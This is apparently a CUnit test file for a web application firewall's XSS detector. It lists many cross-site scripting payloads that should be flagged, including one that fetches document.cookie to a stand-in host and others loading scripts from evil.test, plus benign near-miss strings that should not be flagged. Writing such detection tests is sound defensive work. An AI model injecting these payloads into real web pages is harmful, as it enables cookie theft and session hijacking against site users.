/*
 * tests/waf/test_waf_xss.c — unit tests of the XSS detector: attacks in each
 * context (text, attribute value, URL, script, template) and near-miss
 * benign text with '<', quotes, colons and parentheses.
 */
#include "detect.h"

#include <CUnit/Basic.h>
#include <stdio.h>
#include <string.h>

static int xss(const char *s, size_t n)
{
    struct waf_hit hit;
    memset(&hit, 0, sizeof hit);
    int r = waf_detect_xss(s, n, WAF_PLACE_ARG, &hit);
    if (r) {
        CU_ASSERT_EQUAL(hit.cls, WAF_XSS);
        CU_ASSERT_EQUAL(hit.score, 5);
        CU_ASSERT(hit.rule >= 941000 && hit.rule < 942000);
        CU_ASSERT_PTR_NOT_NULL(hit.reason);
        CU_ASSERT(hit.at + hit.len <= n);
    }
    return r;
}

static void expect_all(const char *const *list, int want)
{
    for (; *list; list++) {
        int got = xss(*list, strlen(*list));
        if (got != want)
            fprintf(stderr, "\n  %s: %s\n", want ? "missed" : "false positive", *list);
        CU_ASSERT_EQUAL(got, want);
    }
}

static void test_tags(void)
{
    static const char *const a[] = {
        "<script>fetch('//x.test/'+document.cookie)</script>",
        "<SCRIPT src=//evil.test/a.js>",
        "hi <iframe src=//evil.test>",
        "<object data=x.swf>",
        "<embed src=movie.swf>",
        "<base href=//evil.test/>",
        "<meta http-equiv=refresh content='0;url=//evil.test'>",
        "<link rel=import href=//evil.test/x.html>",
        "<style>*{color:red}</style>",
        "<svg><desc>x</desc></svg>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">go()</x:script>",
        "</textarea><b>hi",
        "</title>next",
        "<?import namespace=t implementation=#default#time2>",
        NULL};
    expect_all(a, 1);
}

static void test_handlers_and_urls(void)
{
    static const char *const a[] = {
        "<img src=nope onerror=go(1)>", "<body onload=run()>",
        "<div/onmouseenter=steal()>hover", "<p\nonclick\n=\"x()\">",
        "<made-up-tag onpointerdown=go()>", "<a href=\"javascript:go()\">x</a>",
        "<a href=\"  JaVaScRiPt:go()\">x</a>", "<a href=\"java\tscript:go()\">x</a>",
        "<a href=\"java&#x09;script&colon;go()\">x</a>",
        "<a href='vbscript:msgbox 1'>x</a>", "<iframe srcdoc=\"&lt;b&gt;\"></iframe>",
        "<form action=javascript:go()><input type=submit>",
        "<button formaction=\"javascript:go()\">",
        "<a href=\"data:text/html;base64,PGI+\">x</a>",
        "<div style=\"width:expression(go())\">",
        "<div style=\"background:url(javascript:go())\">",
        "<p style=\"-moz-binding:url(//evil.test/x.xml#a)\">",
        "<set attributeName=onclick to=go()>", "<br size=\"&{go()}\">",
        "javascript:go(1)", "  javascript:void(document.title='x')",
        "data:text/html,<b>x</b>", "x:expression(go())",
        /* CSS behind the css_script() prefilter */
        "color:red;behavior:url(a.htc)", "x:expr/**/ession(go())",
        "x:expression/**/(go())", "a:-/**/moz-binding:url(//e.test/x)",
        "x:u\\rl( javascript:go())", "x : BEHAVIOUR\\ : url(a.htc)", NULL};
    expect_all(a, 1);
}

static void test_breakouts_and_script(void)
{
    static const char *const a[] = {
        "\" onmouseover=\"go()", "' autofocus onfocus='go()' x='",
        "x\"/onpointerover=go() y=\"", "\"><img src=x onerror=go()>", "'-alert(1)-'",
        "\";alert(1);//", "'};prompt(1);//", "(confirm)(1)", "alert`1`", "[1].map(alert)",
        "x=document.cookie", "window.location='//evil.test'",
        "{{constructor.constructor('go()')()}}", "{{$on.constructor('go()')()}}",
        "+ADw-script+AD4-go()+ADw-/script+AD4-", "\xef\xbc\x9cscript\xef\xbc\x9e",
        /* UTF-7 '<' found from its '-', anywhere */
        "ADw-img src=x", "say hi ADw-b x",
        /* CSS found from the whole value's colon */
        "color:red;width:expression(go())", NULL};
    expect_all(a, 1);
    /* near misses: no '+' or blank before, too close to the end, a dash of prose */
    static const char *const b[] = {"xADw-img", "+ADw-", "ADw-1", "gluten-free: ADw",
                                    NULL};
    expect_all(b, 0);
}

static void test_benign(void)
{
    static const char *const b[] = {"a < b and c > d",
                                    "I <3 this shop",
                                    "1<2",
                                    "x<y>z",
                                    "Ann <ann@example.com>",
                                    "**bold** and _italic_ [link](https://example.com)",
                                    "<b>Hello</b> <i>world</i>",
                                    "<p class=\"lead\">Welcome</p>",
                                    "<a href=\"https://example.com/docs\">docs</a>",
                                    "<img src=\"/img/cat.png\" alt=\"cat\">",
                                    "Online=yes",
                                    "The button says \"Click\" on screen",
                                    "it's \"on\" = true",
                                    "JavaScript: The Good Parts",
                                    "javascript: the good parts",
                                    "see https://example.com/a?b=c&d=e",
                                    "Please confirm (yes/no)",
                                    "confirm your email",
                                    "alerts: 3 new",
                                    "document.pdf",
                                    "window.png",
                                    "the window. Then",
                                    "regular expression (regex)",
                                    "{{user.name}} welcome",
                                    "{\"title\":\"x\",\"count\":3}",
                                    "query { product(id: 7) { name } }",
                                    "data: 42",
                                    "style: casual",
                                    "f(x) = x^2 + 1",
                                    "onion rings",
                                    "Meet us on Monday",
                                    "</p>",
                                    "<!-- note -->",
                                    "AD-word",
                                    "über naïve façade",
                                    "C:\\Users\\ann\\doc.txt",
                                    "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
                                    NULL};
    expect_all(b, 0);
    /* URLs and times: the CSS scan is skipped, nothing fires */
    static const char *const u[] = {"http://vincentpizza.com/menu/",
                                    "https://shop.example/a-b/c?x=1",
                                    "time: 10:30-11:00 (approx)", NULL};
    expect_all(u, 0);
}

static void test_robustness(void)
{
    struct waf_hit hit;
    static const char nul[] = "<scr\0ipt>";
    CU_ASSERT_EQUAL(waf_detect_xss(nul, sizeof nul - 1, WAF_PLACE_ARG, &hit), 0);
    static const char nul2[] = "<img\0 src=x onerror=go()>";
    CU_ASSERT_EQUAL(waf_detect_xss(nul2, sizeof nul2 - 1, WAF_PLACE_ARG, &hit), 1);
    CU_ASSERT_EQUAL(waf_detect_xss("", 0, WAF_PLACE_ARG, &hit), 0);
    CU_ASSERT_EQUAL(waf_detect_xss("<", 1, WAF_PLACE_ARG, NULL), 0);
    CU_ASSERT_EQUAL(waf_detect_xss("<a b='", 6, WAF_PLACE_ARG, NULL), 0);
    CU_ASSERT_EQUAL(waf_detect_xss("&#", 2, WAF_PLACE_ARG, NULL), 0);
    static char big[100000];
    memset(big, '<', sizeof big);
    CU_ASSERT_EQUAL(waf_detect_xss(big, sizeof big, WAF_PLACE_BODY, &hit), 0);
    for (size_t i = 0; i < sizeof big; i++)
        big[i] = "<a x=y "[i % 7];
    CU_ASSERT_EQUAL(waf_detect_xss(big, sizeof big, WAF_PLACE_BODY, &hit), 0);
    memset(big, 'j', sizeof big);
    CU_ASSERT_EQUAL(waf_detect_xss(big, sizeof big, WAF_PLACE_BODY, &hit), 0);
}

int main(void)
{
    if (CU_initialize_registry() != CUE_SUCCESS) return 2;
    CU_pSuite s = CU_add_suite("waf_xss", NULL, NULL);
    CU_add_test(s, "tags", test_tags);
    CU_add_test(s, "handlers and URLs", test_handlers_and_urls);
    CU_add_test(s, "breakouts and script context", test_breakouts_and_script);
    CU_add_test(s, "benign", test_benign);
    CU_add_test(s, "robustness", test_robustness);
    CU_basic_set_mode(CU_BRM_VERBOSE);
    CU_basic_run_tests();
    unsigned failed = CU_get_number_of_failures();
    CU_cleanup_registry();
    return failed ? 1 : 0;
}
